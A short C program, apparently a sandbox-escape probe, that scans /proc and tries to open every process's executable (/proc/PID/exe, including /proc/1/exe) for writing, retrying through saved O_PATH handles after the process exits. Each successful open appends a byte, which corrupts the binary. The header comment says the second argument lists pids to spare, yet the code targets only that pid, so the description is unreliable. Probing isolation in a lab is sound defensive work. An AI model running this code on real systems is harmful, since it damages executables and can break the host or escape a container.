/* Tries to overwrite the program of other processes: opens the program of every process it sees for
 * writing, keeps a path handle on it, and tries the handle again when the process is gone. Says
 * `opened N` for what could be opened for writing; what was opened gets one byte too many at its end.
 * Turns and the pids to leave alone, if any, are its arguments. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static int opened;

static void strike(const char *path) {
    int fd = open(path, O_WRONLY | O_APPEND);
    if (fd < 0)
        return;
    opened++;
    if (write(fd, "x", 1) < 0)
        perror("write");
    close(fd);
}

int main(int argc, char **argv) {
    int turns = argc > 1 ? atoi(argv[1]) : 200, handles[64] = {0}, count = 0, looked = 0;
    char path[300];
    for (int turn = 0; turn < turns; turn++) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            if (pid < 1 || pid == getpid() || (argc > 2 && pid != atoi(argv[2])))
                continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            looked++;
            strike(path);
            int handle = open(path, O_PATH);
            if (handle >= 0 && count < 64)
                handles[count++] = handle;
            else if (handle >= 0)
                close(handle);
        }
        if (proc)
            closedir(proc);
        strike("/proc/1/exe");
        usleep(2000);
        for (int i = 0; i < count; i++) {
            snprintf(path, sizeof path, "/proc/self/fd/%d", handles[i]);
            strike(path);
        }
        if (count == 64)
            while (count)
                close(handles[--count]);
    }
    printf("looked %s\nopened %d\n", looked ? "yes" : "no", opened);
    return 0;
}
